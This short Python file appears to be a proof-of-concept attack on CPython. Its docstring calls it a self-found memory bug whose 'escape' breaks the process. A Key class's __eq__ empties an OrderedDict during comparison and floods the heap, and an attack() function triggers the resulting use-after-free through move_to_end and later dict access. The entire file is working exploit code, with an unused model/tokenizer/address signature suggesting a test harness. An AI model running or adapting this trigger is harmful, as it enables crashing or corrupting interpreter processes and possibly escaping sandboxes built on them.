"""Class: memory. Source: own find. Escape: the process breaks.
A key that empties an OrderedDict while it is compared leaves the C code with freed nodes."""

from collections import OrderedDict


class Key:
    def __hash__(self):
        return 1

    def __eq__(self, other):
        if armed:
            armed.clear()
            walked.clear()
            kept.extend(bytes(48) for _ in range(2000))
        return self is other


armed = []
kept = []
walked = OrderedDict((Key(), i) for i in range(50))


def attack(model, tokenizer, address):
    keys = list(walked)
    armed.append(1)
    try:
        walked.move_to_end(keys[30])
    except KeyError:
        pass
    for number in range(3):
        walked[number] = number
    list(walked)
